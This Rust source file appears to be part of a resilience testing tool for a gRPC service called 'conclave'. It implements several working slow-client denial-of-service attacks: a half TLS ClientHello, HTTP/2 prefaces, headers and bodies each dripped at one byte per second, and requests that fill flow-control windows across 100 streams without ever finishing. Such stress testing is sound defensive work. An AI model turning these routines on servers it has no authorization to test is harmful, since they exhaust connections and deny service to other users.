//! Callers that are slow: in the handshake, in the headers, in the body, one byte in a second.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::{sleep, timeout_at},
};

use super::crowd::{Member, crowd};
use crate::{Bounds, Frame, PREFACE, Port, Request, Tally, Target, Wire};

/// Between two bytes.
const BYTE_EVERY: Duration = Duration::from_secs(1);
/// The beginning of a TLS record that holds a ClientHello, whose end never comes.
const HALF_HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
/// A call that every caller may make.
const OPEN_CALL: &str = "/conclave.v1.SessionService/OpenSession";
const OPEN_PEER_CALL: &str = "/conclave.peer.v1.JoinService/Join";
/// A message that says that it has 1 MiB, or as much as a peer may send.
const HEAD_OF_CLIENT: [u8; 5] = [0, 0, 0x10, 0, 0];
const HEAD_OF_PEER: [u8; 5] = [0, 0, 0x80, 0, 0];
/// Requests on one connection.
const STREAMS: usize = 100;
/// Bytes that may be sent on a connection before the node allows more.
const WINDOW_FIRST: usize = 65_535;
/// Bytes of one frame.
const FRAME_BYTES: usize = 16 * 1024;

/// Begins handshakes and goes on at one byte per second.
pub(super) async fn handshakes(target: Arc<Target>, bounds: Bounds) -> Tally {
    let everywhere = target.everywhere();
    let act = |member: Member| async move {
        let mut wire = member.silent().await?;
        wire.write_all(HALF_HELLO).await.ok()?;
        Some(drip(&member, wire, vec![0; 512]).await)
    };
    crowd(target, everywhere, bounds.count, bounds, act).await
}

/// Sends the beginning of a request header at one byte per second.
pub(super) async fn headers(target: Arc<Target>, bounds: Bounds) -> Tally {
    let everywhere = target.everywhere();
    let act = |member: Member| async move {
        let mut wire = member.open().await?;
        wire.write_all(&[PREFACE, &Frame::Settings.bytes()].concat())
            .await
            .ok()?;
        let block = Request {
            path: OPEN_CALL,
            token: None,
        };
        let header = Frame::Headers(1, &block.headers(), false).bytes();
        Some(drip(&member, wire, header).await)
    };
    crowd(target, everywhere, bounds.count, bounds, act).await
}

/// Sends the HTTP/2 preface itself at one byte per second.
pub(super) async fn prefaces(target: Arc<Target>, bounds: Bounds) -> Tally {
    let everywhere = target.everywhere();
    let act = |member: Member| async move {
        let wire = member.open().await?;
        Some(drip(&member, wire, PREFACE.to_vec()).await)
    };
    crowd(target, everywhere, bounds.count, bounds, act).await
}

/// Calls, and sends the body at one byte per second.
pub(super) async fn bodies(target: Arc<Target>, bounds: Bounds) -> Tally {
    let everywhere = target.everywhere();
    let act = |member: Member| async move {
        let mut wire = member.open().await?;
        let (path, head) = call_at(&member);
        let block = Request { path, token: None }.headers();
        let begin = [
            PREFACE,
            &Frame::Settings.bytes(),
            &Frame::SettingsAck.bytes(),
            &Frame::Headers(1, &block, false).bytes(),
            &Frame::Data(1, &head, false).bytes(),
        ];
        wire.write_all(&begin.concat()).await.ok()?;
        let byte = Frame::Data(1, &[0], false).bytes();
        while tokio::time::Instant::now() + BYTE_EVERY < member.until {
            sleep(BYTE_EVERY).await;
            if wire.write_all(&byte).await.is_err() {
                return Some(Tally {
                    opened: 1,
                    failed: 0,
                    cut: 1,
                });
            }
        }
        Some(member.hold(wire).await)
    };
    crowd(target, everywhere, bounds.count, bounds, act).await
}

/// Begins requests, sends most of a long body on each, and never ends one.
pub(super) async fn unfinished(target: Arc<Target>, bounds: Bounds, token: Option<&str>) -> Tally {
    let token: Option<Arc<str>> = token.map(Into::into);
    let addresses = match &token {
        Some(_) => target.addresses(Port::Client).to_vec(),
        None => target.everywhere(),
    };
    let connections = bounds.count.div_ceil(STREAMS);
    let act = move |member: Member| {
        let token = token.clone();
        async move {
            let mut wire = member.open().await?;
            let (path, head) = match &token {
                Some(_) => ("/conclave.v1.ChatService/SendMessage", HEAD_OF_CLIENT),
                None => call_at(&member),
            };
            let block = Request {
                path,
                token: token.as_deref(),
            };
            let block = block.headers();
            let mut begin = [PREFACE, &Frame::Settings.bytes()].concat();
            begin.extend(Frame::SettingsAck.bytes());
            let streams = || (0..).map(|number| 2 * number + 1).take(STREAMS);
            for stream in streams() {
                begin.extend(Frame::Headers(stream, &block, false).bytes());
                begin.extend(Frame::Data(stream, &head, false).bytes());
            }
            let writing = async {
                wire.write_all(&begin).await?;
                let filling = vec![b'x'; FRAME_BYTES];
                let mut window = WINDOW_FIRST - STREAMS * head.len();
                for _ in 0..3 {
                    for stream in streams() {
                        while window < FRAME_BYTES {
                            window += more_window(&mut wire).await?;
                        }
                        window -= FRAME_BYTES;
                        let frame = Frame::Data(stream, &filling, false).bytes();
                        wire.write_all(&frame).await?;
                    }
                }
                Ok::<_, std::io::Error>(())
            };
            // A node that does not take it has found its bound.
            let _ = timeout_at(member.until, writing).await;
            Some(member.hold(wire).await)
        }
    };
    crowd(target, addresses, connections, bounds, act).await
}

/// Reads a frame; returns by how much more may be sent on the connection.
async fn more_window(wire: &mut Wire) -> std::io::Result<usize> {
    const WINDOW_UPDATE: u8 = 8;
    let mut head = [0; 9];
    wire.read_exact(&mut head).await?;
    let [a, b, c, kind, _, stream @ ..] = head;
    let mut payload = vec![0; usize::from(a) << 16 | usize::from(b) << 8 | usize::from(c)];
    wire.read_exact(&mut payload).await?;
    match (kind, stream, payload.first_chunk()) {
        (WINDOW_UPDATE, [0, 0, 0, 0], Some(more)) => {
            Ok(usize::try_from(u32::from_be_bytes(*more)).unwrap_or(0))
        }
        _ => Ok(0),
    }
}

fn call_at(member: &Member) -> (&'static str, [u8; 5]) {
    match member
        .target
        .addresses(Port::Client)
        .contains(&member.address)
    {
        true => (OPEN_CALL, HEAD_OF_CLIENT),
        false => (OPEN_PEER_CALL, HEAD_OF_PEER),
    }
}

/// Sends a byte in a second until the attack ends or the node closes the connection.
async fn drip(member: &Member, mut wire: Wire, bytes: Vec<u8>) -> Tally {
    for byte in bytes {
        let next = tokio::time::Instant::now() + BYTE_EVERY;
        if next >= member.until {
            break;
        }
        sleep(BYTE_EVERY).await;
        if wire.write_all(&[byte]).await.is_err() || wire.flush().await.is_err() {
            return Tally {
                opened: 1,
                failed: 0,
                cut: 1,
            };
        }
    }
    member.hold(wire).await
}
